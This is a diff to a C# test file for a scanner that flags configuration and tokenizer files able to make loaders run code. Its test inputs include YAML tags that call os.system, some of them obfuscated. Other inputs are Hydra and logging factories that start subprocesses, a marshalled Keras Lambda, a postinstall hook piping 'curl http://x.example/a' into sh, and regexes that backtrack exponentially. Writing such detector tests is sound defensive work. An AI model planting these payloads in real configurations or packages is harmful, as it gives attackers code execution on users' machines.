@@ -1,8 +1,11 @@
 // What configurations make loaders do is told; configurations as tools write them pass.
 using System.Text;
+using Assay.Bytes;
+using Assay.Formats.Configuration;
 using Assay.Policies;
 using Assay.Scanning;
 using Assay.Tests.Builders;
+using Assay.Tests.Containers;
 using Assay.Tests.Scanning;
 
 namespace Assay.Tests.Formats.Configuration;
@@ -40,6 +43,18 @@ public sealed class ConfigurationTests
     [InlineData("tokenizer.json", """{"added_tokens": [], "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}, "model": {"type": "BPE", "vocab": {}, "merges": []}}""")]
     [InlineData("package.json", """{"scripts": {"postinstall": "curl http://x.example/a | sh"}}""")]
     [InlineData("conda.yaml", "channels: [conda-forge]\ndependencies:\n- pip\n- pip:\n  - http://203.0.113.5/x.whl\nname: env\n")]
+    [InlineData("params.txt", "lr: 0.1\nmodel:\n  hook: !<tag:yaml.org,2002:python/object/apply:posix.system> [x]\n")]
+    [InlineData(".config", "# c\n# c\na: {b: {c: !!python/object/apply:os.system {cmd: 1}}}\n")]
+    [InlineData("opts.log", "epoch: 3\nhook: !!python/object/apply:os.system\n- touch x\n")]
+    [InlineData("notes", "%TAG !p! tag:yaml.org,2002:pyth\n---\n- !p!on/object/apply:os.system [x]\n")]
+    [InlineData("state.bak", "a: 1\nb: !!%70ython/object/apply:os.system [x]\n")]
+    [InlineData("README.md", "---\nlicense: mit\nx: !!python/object/apply:os.system [x]\n---\n# A model\n")]
+    [InlineData("hydra.out", "callbacks:\n- class_path: subprocess.Popen\n  init_args: {args: [x]}\n")]
+    [InlineData("c.json5", "// c\n{ \"model\": { \"_target_\": \"subprocess.call\", \"args\": [\"x\"], }, }\n")]
+    [InlineData("d.json5", "{model: {_target_: 'os.system', command: 'x'}}\n")]
+    [InlineData("logging.yaml", "version: 1\nformatters:\n  f:\n    (): os.system\n    command: x\n")]
+    [InlineData("logging.json", """{"logging": {"version": 1, "handlers": {"h": {"()": "ext://subprocess.Popen", "args": ["x"]}}}}""")]
+    [InlineData("arch.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple\n      - 4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA+gd4LnB5\n      - null\n      - null\n      function_type: lambda\n")]
     public void T159_T165_WhatRunsCodeOfOthersIsFlagged(string name, string text)
     {
         TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
@@ -90,6 +105,11 @@ public sealed class ConfigurationTests
     [InlineData("data.jsonl", "{\"text\": \"a\"}\n{\"text\": \"b\"}\n")]
     [InlineData("settings.json", "{\n  // a comment\n  \"a\": [1, 2,],\n}\n")]
     [InlineData("list.txt", "[section]\nnot json\n")]
+    [InlineData("guide.txt", "Never load a file with tags such as\n  !!python/object/apply:os.system [x]\nwith yaml.load, but with `yaml.safe_load`: \"it refuses\".\n")]
+    [InlineData("README.md", "# Safe loading\n\nTags (`!!python/object/apply:os.system`) are refused:\n\n```yaml\na: !!python/object/apply:os.system [x]\n```\n")]
+    [InlineData("train.txt", "Set _target_: my.Model in the configuration, then: run it.\n\t_target_: os.system\n")]
+    [InlineData("merges.txt", "#version: 0.2\n! !\n!! !!\n!!! !!!\n( )\n")]
+    [InlineData("logging.yaml", "version: 1\nformatters:\n  f:\n    (): pythonjsonlogger.jsonlogger.JsonFormatter\n    format: '%(message)s'\nhandlers:\n  h:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n")]
     [InlineData("empty.json", "{}")]
     [InlineData("bom.json", "\ufeff{\"model_type\": \"bert\"}")]
     public void T160_OrdinaryConfigurationsPass(string name, string text)
@@ -138,5 +158,40 @@ public sealed class ConfigurationTests
         }
 
         Assert.Contains("yaml.alias-bomb", Scans.Of(Encoding.UTF8.GetBytes(bomb.ToString()), "x.yaml").Anomalies());
+    }
+
+    /// <summary>Engines that step back take a text of a few dozen characters forever with these: each was tried with Python's <c>re</c>.</summary>
+    [Theory]
+    [InlineData("(a+)+$")]
+    [InlineData("(x|xx)+y")]
+    [InlineData("(a|a?)+$")]
+    [InlineData(@"(\s*\w*)*$")]
+    [InlineData(@"^(?:[\w.]+\.?)+@")]
+    [InlineData(@"(?:\p{L}|\p{Lu}\p{L}?)+!")]
+    [InlineData(@"([^a]|\w)*z")]
+    [InlineData(@"(\d{1,3})+$")]
+    [InlineData(@"((ab)*)*c")]
+    public void T163_PatternsThatTakeExponentialTimeAreFound(string pattern) => Assert.True(RepeatedRepeats.In(pattern, Budgets.Of()));
+
+    [Theory]
+    [InlineData(@"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+")]
+    [InlineData(@"[^\r\n\p{L}\p{N}]?[\p{Lu}\p{Lt}\p{Lm}\p{Lo}\p{M}]*[\p{Ll}\p{Lm}\p{Lo}\p{M}]+(?i:'s|'t|'re|'ve|'m|'ll|'d)?|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n/]*|\s*[\r\n]+|\s+(?!\S)|\s+")]
+    [InlineData(@"(?:[a-z0-9]+\.)+[a-z]{2,}")]
+    [InlineData(@"(?>a+)+$")]
+    [InlineData(@"(?:a++)+$")]
+    [InlineData(@"(?:(?!ab)\w+)+$")]
+    [InlineData(@"(\d{3},)+")]
+    [InlineData(@"(?:""[^""]*""|[^"",])+")]
+    [InlineData(@"[^\S\n]+|(?:\r?\n)+")]
+    [InlineData("(unclosed")]
+    [InlineData("a{2,1}[")]
+    public void T163_PatternsThatOnlyLookAlikeAreQuiet(string pattern) => Assert.False(RepeatedRepeats.In(pattern, Budgets.Of()));
+
+    [Fact]
+    public void T163_APatternOfManyPartsCostsNoMoreThanItsBound()
+    {
+        ScanBudget budget = Budgets.Of();
+        Assert.False(RepeatedRepeats.In(string.Concat(Enumerable.Repeat("(a?b?c?d?){2,3}{2,3}{2,3}", 600)), budget));
+        Assert.False(RepeatedRepeats.In(new string('(', 16_000), budget));
     }
 }
